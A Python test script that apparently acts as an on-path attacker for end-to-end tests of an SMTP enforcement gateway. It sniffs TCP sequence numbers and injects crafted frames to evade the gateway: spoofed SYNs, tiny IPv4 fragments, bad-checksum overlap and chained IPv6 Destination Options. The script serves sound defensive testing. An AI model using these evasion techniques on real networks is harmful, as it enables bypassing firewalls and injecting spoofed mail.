#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""An on-path attacker beside a real SMTP session, for the enforcer's e2e attack tests.

Run in the client's namespace (ip netns exec NS_IN).  It opens a real TCP connection to
SERVER:25, reads the greeting, says EHLO, learns both sequence numbers by watching its own
interface (AF_PACKET), then attacks with crafted frames sent by AF_PACKET to the gateway:

  syn-outside  a SYN for the client's 4-tuple, sent from the outside namespace (--outside-ns)
               to the gateway's outside interface (issue 13 item 1)
  syn-ahead    a SYN from the client's side, its sequence number 10^6 ahead (item 1)
  frag         the whole transaction (MAIL, RCPT, DATA, body) as one TCP segment in two IPv4
               fragments, the first with 8 bytes of TCP header (item 2)
  badsum       NOOP with a bad TCP checksum, then the transaction of the same length at the
               same sequence number (item 4)
  destopts     (IPv6) the transaction as one segment behind five Destination Options headers,
               more than the enforcer walks (item 3)

After syn-*, the transaction goes through the real socket.  After frag/badsum, the MX's answer
is watched for on the wire (the client's TCP discards it: it acknowledges bytes the socket never
sent).  Prints a transcript; exits 0 when the MX answered MAIL with 250 (the attack got
through), 1 when it did not (within --wait seconds), 2 on a setup error.
"""
import argparse
import ctypes
import os
import random
import select
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
ETH_P_IPV6 = 0x86DD
PACKET_OUTGOING = 4
CLONE_NEWNET = 0x40000000


def setns(path):
    libc = ctypes.CDLL(None, use_errno=True)
    fd = os.open(path, os.O_RDONLY)
    try:
        if libc.setns(fd, CLONE_NEWNET) != 0:
            raise OSError(ctypes.get_errno(), "setns " + path)
    finally:
        os.close(fd)


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def v6(addr):
    return ":" in addr


def tcp_segment(src, dst, sport, dport, seq, ack, flags, payload=b"", bad_sum=False):
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, 5 << 4,
                      flags, 65535, 0, 0)
    if v6(src):
        pseudo = (socket.inet_pton(socket.AF_INET6, src) +
                  socket.inet_pton(socket.AF_INET6, dst) +
                  struct.pack("!IxxxB", len(hdr) + len(payload), 6))
    else:
        pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack(
            "!BBH", 0, 6, len(hdr) + len(payload))
    c = csum(pseudo + hdr + payload)
    if bad_sum:
        c ^= 0x5A5A
    return hdr[:16] + struct.pack("!H", c) + hdr[18:] + payload


def ipv4(src, dst, l4, frag_off=0, ident=0x4242):
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), ident, frag_off, 64, 6, 0,
                      socket.inet_aton(src), socket.inet_aton(dst))
    return hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:] + l4


def ipv6(src, dst, l4, n_destopts=0):
    ext = b""
    for i in range(n_destopts):
        # next header (DestOpts, the last one TCP), length 0 (8 bytes), PadN over the rest
        ext += struct.pack("!BBBB4x", 60 if i + 1 < n_destopts else 6, 0, 1, 4)
    first = 60 if n_destopts else 6
    return (struct.pack("!IHBB", 6 << 28, len(ext) + len(l4), first, 64) +
            socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst) +
            ext + l4)


def ip(src, dst, l4, **kw):
    return ipv6(src, dst, l4, **kw) if v6(src) else ipv4(src, dst, l4, **kw)


def mac(s):
    return bytes(int(x, 16) for x in s.split(":"))


class Wire:
    """AF_PACKET on one interface: send frames, watch the session's segments."""

    def __init__(self, ifname, dst_mac):
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.s.bind((ifname, 0))
        self.src_mac = self.s.getsockname()[4]
        self.dst_mac = mac(dst_mac)

    def send_ip(self, packet):
        et = ETH_P_IPV6 if packet[0] >> 4 == 6 else ETH_P_IP
        self.s.send(self.dst_mac + self.src_mac + struct.pack("!H", et) + packet)

    def segments(self, timeout):
        """(outgoing, src, dst, sport, dport, seq, ack, flags, payload) until timeout."""
        end = time.monotonic() + timeout
        while True:
            left = end - time.monotonic()
            if left <= 0 or not select.select([self.s], [], [], left)[0]:
                return
            frame, addr = self.s.recvfrom(65536)
            et = struct.unpack("!H", frame[12:14])[0]
            pkt = frame[14:]
            if et == ETH_P_IP and len(pkt) >= 40:
                ihl = (pkt[0] & 15) * 4
                tot = struct.unpack("!H", pkt[2:4])[0]
                if pkt[9] != 6 or struct.unpack("!H", pkt[6:8])[0] & 0x3FFF:
                    continue
                src, dst = socket.inet_ntoa(pkt[12:16]), socket.inet_ntoa(pkt[16:20])
                th = pkt[ihl:tot]
            elif et == ETH_P_IPV6 and len(pkt) >= 60 and pkt[6] == 6:
                src = socket.inet_ntop(socket.AF_INET6, pkt[8:24])
                dst = socket.inet_ntop(socket.AF_INET6, pkt[24:40])
                th = pkt[40:40 + struct.unpack("!H", pkt[4:6])[0]]
            else:
                continue
            sport, dport, seq, ack, doff, flags = struct.unpack("!HHIIBB", th[:14])
            yield (addr[2] == PACKET_OUTGOING, src, dst, sport, dport, seq, ack, flags,
                   th[(doff >> 4) * 4:])


def read_reply(sock, timeout):
    """One SMTP reply (all its lines), or None on timeout / reset."""
    sock.settimeout(timeout)
    buf = b""
    try:
        while True:
            chunk = sock.recv(4096)
            if not chunk:
                return None
            buf += chunk
            lines = buf.split(b"\r\n")
            for line in lines[:-1]:
                if len(line) >= 4 and line[3:4] == b" " or len(line) == 3:
                    return buf.decode(errors="replace")
    except (socket.timeout, ConnectionError):
        return None


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--attack", required=True,
                    choices=["none", "syn-outside", "syn-ahead", "frag", "badsum", "destopts"])
    ap.add_argument("--server", default="203.0.113.25")
    ap.add_argument("--ifname", default="eth0")
    ap.add_argument("--gw-mac", required=True, help="the gateway's MAC on the client's side")
    ap.add_argument("--outside-ns", help="/run/netns/NAME of the outside (syn-outside)")
    ap.add_argument("--outside-if", default="eth0")
    ap.add_argument("--outside-gw-mac", help="the gateway's MAC on the outside")
    ap.add_argument("--mail-from", default="attack@example.org")
    ap.add_argument("--rcpt", default="alice@example.net")
    ap.add_argument("--wait", type=float, default=5.0)
    a = ap.parse_args()

    outside = None
    if a.attack == "syn-outside":
        home = os.open("/proc/self/ns/net", os.O_RDONLY)
        setns(a.outside_ns)
        outside = Wire(a.outside_if, a.outside_gw_mac)
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.setns(home, CLONE_NEWNET) != 0:
            print("setns back failed", file=sys.stderr)
            return 2
        os.close(home)
    wire = Wire(a.ifname, a.gw_mac)
    sock = socket.create_connection((a.server, 25), timeout=10)
    a.server = socket.inet_ntop(sock.family, socket.inet_pton(sock.family, a.server))
    src, sport = sock.getsockname()[:2]
    print("# session %s:%d -> %s:25" % (src, sport, a.server))
    print("<- " + (read_reply(sock, 10) or "(no greeting)").strip())
    sock.sendall(b"EHLO attacker.example.org\r\n")
    r = read_reply(sock, 10)
    print("-> EHLO\n<- " + (r or "(no reply)").strip().replace("\r\n", "\n<- "))
    if not r:
        return 2
    # both sequence numbers, from the wire: everything up to the EHLO reply has been seen
    cnxt = snxt = None
    for out, s, d, sp, dp, seq, ack, fl, pl in wire.segments(0.5):
        if out and sp == sport and d == a.server:
            n = seq + len(pl) + (1 if fl & 0x02 else 0)
            cnxt = n if cnxt is None or (n - cnxt) & 0xFFFFFFFF < 1 << 31 else cnxt
        elif not out and dp == sport and s == a.server:
            n = seq + len(pl) + (1 if fl & 0x02 else 0)
            snxt = n if snxt is None or (n - snxt) & 0xFFFFFFFF < 1 << 31 else snxt
    if cnxt is None or snxt is None:
        print("# could not see the session on the wire", file=sys.stderr)
        return 2
    print("# client next seq %u, server next seq %u" % (cnxt, snxt))
    txn = ("MAIL FROM:<%s>\r\nRCPT TO:<%s>\r\nDATA\r\nSubject: %s\r\n\r\nbody\r\n.\r\n"
           % (a.mail_from, a.rcpt, a.attack)).encode()

    if a.attack == "syn-outside":
        seg = tcp_segment(src, a.server, sport, 25, random.getrandbits(32), 0, 0x02)
        outside.send_ip(ip(src, a.server, seg))
        print("# injected: SYN for the client's 4-tuple on the outside")
    elif a.attack == "syn-ahead":
        seg = tcp_segment(src, a.server, sport, 25, cnxt + 1000000 - 1, 0, 0x02)
        wire.send_ip(ip(src, a.server, seg))
        print("# injected: SYN from the client's side, sequence 10^6 ahead")
    elif a.attack == "frag":
        seg = tcp_segment(src, a.server, sport, 25, cnxt, snxt, 0x18, txn)
        wire.send_ip(ipv4(src, a.server, seg[:8], frag_off=0x2000))
        wire.send_ip(ipv4(src, a.server, seg[8:], frag_off=1))
        print("# injected: the transaction in two fragments, 8 bytes of TCP header in the first")
    elif a.attack == "badsum":
        noop = b"NOOP " + b"x" * (len(txn) - 7) + b"\r\n"
        wire.send_ip(ip(src, a.server,
                        tcp_segment(src, a.server, sport, 25, cnxt, snxt, 0x18, noop, True)))
        wire.send_ip(ip(src, a.server,
                        tcp_segment(src, a.server, sport, 25, cnxt, snxt, 0x18, txn)))
        print("# injected: NOOP with a bad checksum, then the transaction at its sequence number")
    elif a.attack == "destopts":
        seg = tcp_segment(src, a.server, sport, 25, cnxt, snxt, 0x18, txn)
        wire.send_ip(ipv6(src, a.server, seg, n_destopts=5))
        print("# injected: the transaction behind five Destination Options headers")

    if a.attack in ("none", "syn-outside", "syn-ahead"):
        sock.sendall(b"MAIL FROM:<%s>\r\n" % a.mail_from.encode())
        r = read_reply(sock, a.wait)
        print("-> MAIL FROM\n<- " + (r or "(no reply)").strip())
        if not r or not r.startswith("250"):
            return 1
        for cmd in (b"RCPT TO:<%s>\r\n" % a.rcpt.encode(), b"DATA\r\n",
                    b"Subject: %s\r\n\r\nbody\r\n.\r\n" % a.attack.encode(), b"QUIT\r\n"):
            sock.sendall(cmd)
            print("-> " + cmd.decode().split("\r\n")[0])
            print("<- " + (read_reply(sock, a.wait) or "(no reply)").strip())
        return 0
    # the injected transaction: the MX's answers come back on the wire
    for out, s, d, sp, dp, seq, ack, fl, pl in wire.segments(a.wait):
        if not out and s == a.server and dp == sport and pl:
            print("<- (on the wire) " + pl.decode(errors="replace").strip().replace("\r\n", " | "))
            if pl.startswith(b"250"):
                return 0
    print("<- (no answer on the wire)")
    return 1


if __name__ == "__main__":
    sys.exit(main())
